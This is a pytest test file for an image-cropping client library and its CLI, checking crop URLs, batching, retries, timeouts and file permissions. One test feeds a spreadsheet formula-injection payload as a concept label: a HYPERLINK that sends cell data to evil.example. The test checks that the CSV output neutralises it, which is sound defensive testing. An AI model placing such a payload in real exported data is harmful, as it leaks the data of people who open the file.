"""The Python client (client/cropper_client) and its command line, against real nginx, Gunicorn and the stand-in.

crop_url is checked against the service's own answers for every option: the URL computed locally is
fetched first (the service makes the crop on that miss), then the same request is POSTed and must
answer that URL with the file already made. Retries and timeouts are checked against a tiny scripted
HTTP server, where the timing can be asserted.
"""

import csv
import json
import os
import subprocess
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import requests

from cropper_client import (
    BusyError,
    ConnectionFailedError,
    CropFailure,
    Cropper,
    CropRequest,
    CropResult,
    InvalidRequestError,
    NotFoundError,
    RequestTimeoutError,
    crop_url,
)
from devtools.servers import NginxServer, find_nginx_or_skip
from devtools.standin import EDGE_BOXES, MULTIPAGE_CONCEPT, box, concept_boxes
from tests.images import assert_image_equal, expected_crop, open_bytes

UNKNOWN = "00000000-0000-4000-8000-000000000000"
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def service(gunicorn, tmp_path_factory):
    """nginx in front of the module's Gunicorn, with limits that every request of this module fits in."""
    find_nginx_or_skip()
    limits = {"api_rate": "1000r/s", "api_burst": 1000, "regen_rate": "1000r/s", "regen_burst": 1000}
    with NginxServer(gunicorn, gunicorn.cache_dir, tmp_path_factory.mktemp("nginx"), **limits) as server:
        yield server


@pytest.fixture
def cropper(service):
    with Cropper(service.url, timeout=30) as client:
        yield client


# -- the client against the service


def test_a_crop_answers_its_url_and_the_file_has_the_pixels(cropper, standin, tmp_path):
    frame = standin.image("framegrab")
    crop = cropper.crop(frame.uuid, 100, 100, 405, 400, format="png")
    assert isinstance(crop, CropResult) and crop.ok
    assert (crop.uuid, crop.box, crop.region, crop.width, crop.height, crop.format, crop.cached) == (
        frame.uuid, (100, 100, 405, 400), (100, 100, 405, 400), 305, 300, "png", False)
    assert crop.url.endswith(f"/crops/{frame.uuid[:2]}/{frame.uuid}/100_100_405_400.png")
    assert crop.box_uuid is None and crop.concept is None
    assert cropper.crop(frame.uuid, 100, 100, 405, 400, format="png").cached is True
    saved = cropper.download(crop, tmp_path / "crop.png")
    assert_image_equal(open_bytes(saved.read_bytes()), expected_crop(frame, (100, 100, 405, 400)))


def test_a_box_crop_carries_its_annotation(cropper):
    annotation = box(EDGE_BOXES["top"])
    crop = cropper.crop_box(annotation["uuid"], pad=16, format="png")
    assert (crop.box_uuid, crop.concept, crop.uuid) == (annotation["uuid"], annotation["concept"],
                                                        annotation["imageUuid"])
    assert crop.box == (500, 0, 680, 120) and crop.region == (484, 0, 696, 136)  # padding stops at the top edge


def test_a_batch_answers_in_order_with_failures_as_values(cropper, standin):
    frame = standin.image("framegrab-1")
    items = [
        CropRequest.of(frame.uuid, 0, 0, 64, 48),
        {"uuid": frame.uuid, "x1": 1900, "y1": 0, "x2": 2000, "y2": 10},  # past the 1920-wide image
        CropRequest.of_box(EDGE_BOXES["left"], width=32, format="jpeg"),   # its own format wins
        {"uuid": frame.uuid, "x1": "abc", "y1": 0, "x2": 10, "y2": 10},
        None,  # as a JSON list given to `cropper-client crop-list` may hold
    ]
    results = cropper.crop_many(items, format="png")
    assert [r.ok for r in results] == [True, False, True, False, False]
    plain, outside, annotation, invalid, null = results
    assert null.code == "validation_error"
    assert plain.format == "png" and plain.region == (0, 0, 64, 48)
    assert isinstance(outside, CropFailure) and outside.code == "box_outside_image"
    assert outside.details == {"image_width": 1920, "image_height": 1080} and outside.box == (1900, 0, 2000, 10)
    assert (annotation.box_uuid, annotation.format, annotation.width) == (EDGE_BOXES["left"], "jpeg", 32)
    assert invalid.code == "validation_error" and "x1" in invalid.details
    assert cropper.crop_many([CropRequest.of(frame.uuid, 0, 0, 64, 48)], batch_size=1, format="png")[0].cached


def test_a_concept_is_paged_through_to_its_last_box(cropper):
    pages = list(cropper.iter_concept(MULTIPAGE_CONCEPT, page_size=10, width=64, height=64, fit="cover"))
    assert [len(page.crops) for page in pages] == [10, 10, 10, 2]
    assert [page.next_offset for page in pages] == [10, 20, 30, None] and {page.total for page in pages} == {32}
    crops = [crop for page in pages for crop in page.crops]
    assert [crop.box_uuid for crop in crops] == [b["uuid"] for b in concept_boxes(MULTIPAGE_CONCEPT)]
    assert all(crop.ok and crop.concept == MULTIPAGE_CONCEPT and (crop.width, crop.height) == (64, 64)
               for crop in crops)
    window = list(cropper.iter_concept(MULTIPAGE_CONCEPT, page_size=10, offset=5, limit=13))
    assert [len(page.crops) for page in window] == [10, 3]
    assert [c.box_uuid for page in window for c in page.crops] == [c.box_uuid for c in cropper.crop_concept(
        MULTIPAGE_CONCEPT, limit=13, offset=5).crops] == [c.box_uuid for c in crops[5:18]]


def test_an_images_boxes_are_typed(cropper, standin):
    frame = standin.image("framegrab-7")
    listing = cropper.image_boxes(frame.uuid)
    assert (listing.uuid, listing.width, listing.height) == (frame.uuid, 1920, 1080)
    past = next(b for b in listing.boxes if b.box_uuid == EDGE_BOXES["past-left"])
    assert past.box == (-40, 500, 160, 600) and past.region == (0, 500, 160, 600)
    assert past.request == {"box_uuid": past.box_uuid} and past.url == cropper.crop_box(past.box_uuid).url


def test_the_services_errors_are_raised_with_code_and_details(cropper, standin):
    frame = standin.image("framegrab")
    with pytest.raises(NotFoundError) as unknown:
        cropper.crop(UNKNOWN, 0, 0, 10, 10)
    assert (unknown.value.status, unknown.value.code) == (404, "image_not_found")
    assert UNKNOWN in unknown.value.message
    with pytest.raises(InvalidRequestError) as invalid:
        cropper.crop(frame.uuid, 0, 0, 10, 10, width=0, quality=101)
    assert (invalid.value.status, invalid.value.code) == (422, "validation_error")
    assert {"width", "quality"} <= set(invalid.value.details)
    with pytest.raises(InvalidRequestError) as outside:
        cropper.crop(frame.uuid, 0, 0, 1921, 10)
    assert outside.value.code == "box_outside_image" and outside.value.details["image_width"] == 1920
    with pytest.raises(NotFoundError) as concept:
        cropper.crop_concept("Nonexistentia imaginaria")
    assert concept.value.code == "concept_not_found" and concept.value.details == {
        "concept": "Nonexistentia imaginaria"}
    with pytest.raises(NotFoundError) as no_box:
        cropper.image_boxes(UNKNOWN)
    assert no_box.value.code == "image_not_found"
    with pytest.raises(TypeError, match="widht"):  # a misspelt option never leaves the client
        cropper.crop(frame.uuid, 0, 0, 10, 10, widht=10)


# -- crop_url: the URL computed locally is the one the service answers

FRAME_SIZE = (1920, 1080)
BOX = (200, 300, 600, 500)  # 400 x 200


@pytest.mark.parametrize("options", [
    {},
    {"width": 224, "height": 224},
    {"width": 224, "height": 224, "fit": "contain"},
    {"width": 224, "height": 224, "fit": "cover"},
    {"width": 100, "height": 300, "fit": "cover"},  # a tall cut of a wide box
    {"width": 224, "height": 224, "fit": "fill"},
    {"width": 224, "height": 224, "fit": "letterbox"},
    {"width": 224, "height": 224, "fit": "letterbox", "background": "#336699"},
    {"width": 224, "height": 224, "fit": "letterbox", "background": "#000000"},  # the default: not in the path
    {"width": 200, "height": 100, "fit": "letterbox"},  # fills the canvas exactly: no canvas
    {"width": 224},
    {"height": 99},
    {"width": 1000, "height": 1000},
    {"width": 1000, "height": 1000, "enlarge": False},
    {"width": 1000, "height": 1000, "fit": "letterbox", "enlarge": False},
    {"width": 800, "enlarge": False},
    {"quality": 80},
    {"quality": 80, "format": "jpeg"},
    {"quality": 80, "format": "png"},  # png takes no quality: not in the path
    {"format": "jpg"},
    {"format": "png", "width": 400},  # the region's own size: not in the path
    {"width": 400, "height": 200, "fit": "fill"},
    {"pad": 16},
    {"pad": "16"},
    {"pad": "10%"},
    {"pad": "12.5%", "width": 128},
    {"pad": 350},  # stops at the top and left edges
    {"square": True},
    {"square": True, "pad": 300},  # a 1000 square, shifted back inside the image
    {"square": True, "pad": "50%", "width": 96, "height": 96, "fit": "cover", "quality": 70},
])
def test_crop_url_is_the_url_the_service_answers(service, cropper, standin, options):
    frame = standin.image("framegrab-2")
    needs_size = "pad" in options or "square" in options
    url = crop_url(service.url, frame.uuid, *BOX, image_size=FRAME_SIZE if needs_size else None, **options)
    fetched = requests.get(url, timeout=30)  # before anyone asked for it: nginx passes the miss to the app
    assert fetched.status_code == 200, (url, fetched.text)
    crop = cropper.crop(frame.uuid, *BOX, **options)
    assert crop.url == url and crop.cached
    assert open_bytes(fetched.content).size == (crop.width, crop.height)


def test_crop_url_with_the_image_size_checks_the_box_and_without_it_refuses_pad_and_square(standin):
    frame = standin.image("framegrab-2")
    base = "http://crops.test/"
    assert crop_url(base, frame.uuid.upper(), *BOX, image_size=FRAME_SIZE) == crop_url(base, frame.uuid, *BOX)
    for options in ({"pad": 16}, {"square": True}):
        with pytest.raises(ValueError, match="image_size"):
            crop_url(base, frame.uuid, *BOX, **options)
    refused = [({"width": 10, "fit": "cover"}, "width and height"), ({"background": "#ffffff"}, "letterbox"),
               ({"quality": 0}, "quality"), ({"format": "gif"}, "format"), ({"pad": "2000%"}, "pad"),
               ({"image_size": (500, 500)}, "does not fit"), ({"width": 0}, "width")]
    for options, field in refused:
        with pytest.raises(ValueError, match=field):
            crop_url(base, frame.uuid, *BOX, **options)


# -- retries and timeouts, against a scripted server


class Scripted(ThreadingHTTPServer):
    """An HTTP server on 127.0.0.1 answering each request with the next scripted answer (the last one repeats).

    An answer is (status, headers, body), ("drop",) to hang up without answering, ("short",) to hang up
    half-way through a 200's body, or ("sleep", seconds) to answer 200 after a pause. Request times are
    recorded.
    """

    daemon_threads = True

    def __init__(self, *answers):
        super().__init__(("127.0.0.1", 0), ScriptedHandler)
        self.answers = list(answers)
        self.times = []
        self.url = f"http://127.0.0.1:{self.server_address[1]}"

    def next_answer(self):
        self.times.append(time.monotonic())
        return self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]

    def __enter__(self):
        threading.Thread(target=self.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        return self

    def __exit__(self, *exc):
        self.shutdown()
        self.server_close()


class ScriptedHandler(BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        answer = self.server.next_answer()
        if answer[0] == "drop":
            self.close_connection = True
            return
        if answer[0] == "sleep":
            time.sleep(answer[1])
            answer = (200, {}, CROP_ANSWER)
        if answer[0] == "short":
            data = json.dumps(CROP_ANSWER).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data[:len(data) // 2])
            self.close_connection = True
            return
        status, headers, body = answer
        data = json.dumps(body).encode()
        self.send_response(status)
        for name, value in {"Content-Type": "application/json", "Content-Length": str(len(data)), **headers}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(data)


CROP_ANSWER = {"url": "http://crops.test/crops/00/x/0_0_1_1.webp", "uuid": UNKNOWN, "box": [0, 0, 1, 1],
               "region": [0, 0, 1, 1], "width": 1, "height": 1, "format": "webp", "cached": True}
BUSY = (503, {"Retry-After": "1"}, {"error": {"code": "busy", "message": "Busy.", "details": {}}})
LIMITED = (429, {"Retry-After": "1"}, {"error": {"code": "too_many_requests", "message": "Slow down.", "details": {}}})
OK = (200, {}, CROP_ANSWER)


@pytest.mark.parametrize("refusal", [BUSY, LIMITED], ids=["503", "429"])
def test_busy_and_rate_limited_answers_are_retried_after_retry_after(refusal):
    with Scripted(refusal, OK) as server:
        started = time.monotonic()
        crop = Cropper(server.url, timeout=5).crop(UNKNOWN, 0, 0, 1, 1)
        elapsed = time.monotonic() - started
    assert crop.url == CROP_ANSWER["url"] and len(server.times) == 2
    assert server.times[1] - server.times[0] >= 0.95 and elapsed < 3


def test_retries_are_bounded_and_the_last_refusal_is_raised():
    hurry = (503, {"Retry-After": "0"}, BUSY[2])
    with Scripted(hurry) as server:
        with pytest.raises(BusyError) as busy:
            Cropper(server.url, timeout=5, retries=2).crop(UNKNOWN, 0, 0, 1, 1)
    assert len(server.times) == 3 and (busy.value.status, busy.value.code, busy.value.retry_after) == (503, "busy", 0)


def test_a_long_retry_after_is_capped_and_other_errors_are_not_retried():
    slow_down = (429, {"Retry-After": "3600"}, LIMITED[2])
    with Scripted(slow_down, OK) as server:
        started = time.monotonic()
        Cropper(server.url, timeout=5, max_wait=0.2).crop(UNKNOWN, 0, 0, 1, 1)
        assert 0.2 <= time.monotonic() - started < 2
    missing = (404, {}, {"error": {"code": "image_not_found", "message": "No such image.", "details": {}}})
    with Scripted(missing, OK) as server:
        with pytest.raises(NotFoundError):
            Cropper(server.url, timeout=5).crop(UNKNOWN, 0, 0, 1, 1)
    assert len(server.times) == 1


def test_dropped_connections_are_retried_with_backoff_then_given_up():
    with Scripted(("drop",), ("drop",), OK) as server:
        crop = Cropper(server.url, timeout=5, backoff=0.1).crop(UNKNOWN, 0, 0, 1, 1)
    assert crop.cached and len(server.times) == 3
    assert server.times[2] - server.times[1] >= 0.19  # 0.1, then 0.2
    with Scripted(("drop",)) as server:
        with pytest.raises(ConnectionFailedError):
            Cropper(server.url, timeout=5, retries=2, backoff=0.01).crop(UNKNOWN, 0, 0, 1, 1)
    assert len(server.times) == 3


def test_an_answer_cut_short_is_a_dropped_connection_retried_then_raised_as_connection_failed():
    # A worker or a network dying half-way through the body: requests raises ChunkedEncodingError
    # (not a ConnectionError), which escaped the client as a bare requests exception.
    with Scripted(("short",), OK) as server:
        crop = Cropper(server.url, timeout=5, backoff=0.01).crop(UNKNOWN, 0, 0, 1, 1)
    assert crop.cached and len(server.times) == 2
    with Scripted(("short",)) as server:
        with pytest.raises(ConnectionFailedError) as failed:
            Cropper(server.url, timeout=5, retries=1, backoff=0.01).crop(UNKNOWN, 0, 0, 1, 1)
    assert failed.value.code == "connection_error" and len(server.times) == 2


def test_every_request_has_a_timeout_and_a_slow_answer_is_not_asked_again():
    with Scripted(("sleep", 2)) as server:
        started = time.monotonic()
        with pytest.raises(RequestTimeoutError) as timeout:
            Cropper(server.url, timeout=0.3).crop(UNKNOWN, 0, 0, 1, 1)
        assert time.monotonic() - started < 1.5
    assert timeout.value.code == "timeout" and len(server.times) == 1


# -- the command line


def cli(service, *args, umask=0o022):
    env = {**os.environ, "CROPPER_URL": service.url}
    return subprocess.run([sys.executable, "-m", "cropper_client", *map(str, args)], env=env, cwd=ROOT,
                          capture_output=True, text=True, timeout=120, umask=umask)


def modes(folder):
    """Every file's and folder's permission bits below folder, by path relative to it."""
    return {str(path.relative_to(folder)): path.stat().st_mode & 0o777 for path in Path(folder).rglob("*")}


def test_cli_crop_saves_the_file_in_the_format_of_its_name(service, standin, tmp_path):
    frame = standin.image("framegrab-3")
    out = tmp_path / "crop.png"
    done = cli(service, "crop", frame.uuid, 10, 20, 110, 95, "--out", out)
    assert done.returncode == 0, done.stderr
    answer = json.loads(done.stdout)
    assert answer["format"] == "png" and answer["file"] == str(out)
    assert_image_equal(open_bytes(out.read_bytes()), expected_crop(frame, (10, 20, 110, 95)))


def test_cli_crop_by_box_uuid_with_options(service, tmp_path):
    script = Path(sys.executable).with_name("cropper-client")  # the console script pip installed
    done = subprocess.run([script, "crop", "--box", EDGE_BOXES["right"], "--width", "96", "--height", "96",
                           "--fit", "cover", "--quality", "70", "--out", tmp_path, "--url", service.url],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    answer = json.loads(done.stdout)
    assert answer["box_uuid"] == EDGE_BOXES["right"] and answer["url"].endswith("_96x96_q70.webp")
    assert open_bytes(Path(answer["file"]).read_bytes()).size == (96, 96)
    assert Path(answer["file"]).parent == tmp_path


def test_cli_crop_list_from_csv_saves_the_good_ones_and_reports_the_bad_one(service, standin, tmp_path):
    frame = standin.image("framegrab-4")
    rows = [{"uuid": frame.uuid, "x1": 0, "y1": 0, "x2": 50, "y2": 40},
            {"box_uuid": EDGE_BOXES["top-left"], "width": 80},
            {"uuid": frame.uuid, "x1": 0, "y1": 0, "x2": 5000, "y2": 10},
            {"uuid": frame.uuid, "x1": 100, "y1": 100, "x2": 150, "y2": 120, "format": "jpeg", "notes": "a fish"}]
    table = tmp_path / "crops.csv"
    with table.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, ["uuid", "x1", "y1", "x2", "y2", "box_uuid", "width", "format", "notes"])
        writer.writeheader()
        writer.writerows(rows)
    done = cli(service, "crop-list", table, "--format", "png", "--out", tmp_path / "out")
    assert done.returncode == 1  # one item failed; the others are saved
    answers = [json.loads(line) for line in done.stdout.splitlines()]
    assert [("url" in a) for a in answers] == [True, True, False, True]
    assert [a.get("format") for a in answers] == ["png", "png", None, "jpeg"]
    assert answers[2]["code"] == "box_outside_image"
    assert "item 3: box_outside_image" in done.stderr and "ignoring column(s) notes" in done.stderr
    saved = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert saved == sorted(Path(a["file"]).name for a in answers if "file" in a) and len(saved) == 3


def test_cli_crop_concept_downloads_every_crop_and_writes_the_csv(service, tmp_path):
    out = tmp_path / "dataset"
    done = cli(service, "crop-concept", MULTIPAGE_CONCEPT, "--limit", 15, "--page-size", 10, "--out", out,
               "--width", 64, "--height", 64, "--fit", "cover", "--format", "png")
    assert done.returncode == 0, done.stderr
    with (out / "crops.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == ["url", "label", "box_uuid", "image_uuid", "x1", "y1", "x2", "y2", "file"]
    wanted = concept_boxes(MULTIPAGE_CONCEPT)[:15]
    assert [(r["box_uuid"], r["image_uuid"], r["label"]) for r in rows] == [
        (b["uuid"], b["imageUuid"], MULTIPAGE_CONCEPT) for b in wanted]
    assert sorted(p.name for p in out.iterdir()) == sorted([r["file"] for r in rows] + ["crops.csv"])
    assert all(open_bytes((out / r["file"]).read_bytes()).size == (64, 64) for r in rows)
    assert "15 crops" in done.stderr


def test_cli_crop_concept_writes_a_formula_concept_as_text(service, standin, tmp_path):
    concept = '=HYPERLINK("http://evil.example/?leak="&A2,"Open crop")'
    standin.add_box("framegrab-1", concept, 10, 12, 40, 30)
    done = cli(service, "crop-concept", concept, "--limit", 5, "--out", tmp_path / "dataset")
    assert done.returncode == 0, done.stderr
    with (tmp_path / "dataset" / "crops.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["label"], r["x1"], r["y2"]) for r in rows] == [("'" + concept, "10", "42")]


@pytest.mark.parametrize("umask, file_mode", [(0o022, 0o644), (0o077, 0o600)])
def test_cli_saved_crops_honour_the_umask(service, standin, tmp_path, umask, file_mode):
    # They came out 0600 whatever the umask (tempfile's mode): a colleague's account, or a training job
    # running as another user, could not read them.
    frame = standin.image("framegrab-5")
    done = cli(service, "crop", frame.uuid, 0, 0, 30, 20, "--out", tmp_path / "crop.png", umask=umask)
    assert done.returncode == 0, done.stderr
    concept = cli(service, "crop-concept", MULTIPAGE_CONCEPT, "--limit", 3, "--out", tmp_path / "concept",
                  umask=umask)
    assert concept.returncode == 0, concept.stderr
    saved = modes(tmp_path / "concept")
    assert len(saved) == 4 and set(saved.values()) == {file_mode}  # three crops and crops.csv
    assert modes(tmp_path)["crop.png"] == file_mode


def test_cli_errors_are_one_line_and_exit_non_zero(service, standin):
    unknown = cli(service, "crop", UNKNOWN, 0, 0, 10, 10)
    assert unknown.returncode == 1 and unknown.stdout == ""
    assert unknown.stderr.count("\n") == 1 and "image_not_found" in unknown.stderr and UNKNOWN in unknown.stderr
    invalid = cli(service, "crop", standin.image("framegrab").uuid, 0, 0, 10, 10, "--width", 0)
    assert invalid.returncode == 1 and invalid.stderr.count("\n") == 1
    assert "validation_error" in invalid.stderr and '"width"' in invalid.stderr
    unreachable = cli(service, "crop", UNKNOWN, 0, 0, 10, 10, "--url", "http://127.0.0.1:9", "--retries", 0)
    assert unreachable.returncode == 1 and "connection_error" in unreachable.stderr


def test_cli_url_is_crop_url(service, standin):
    frame = standin.image("framegrab-2")
    done = cli(service, "url", frame.uuid, *BOX, "--pad", "10%", "--square", "--image-size", "1920x1080",
               "--width", 128, "--format", "jpg")
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == crop_url(service.url, frame.uuid, *BOX, pad="10%", square=True,
                                           image_size=FRAME_SIZE, width=128, format="jpg")
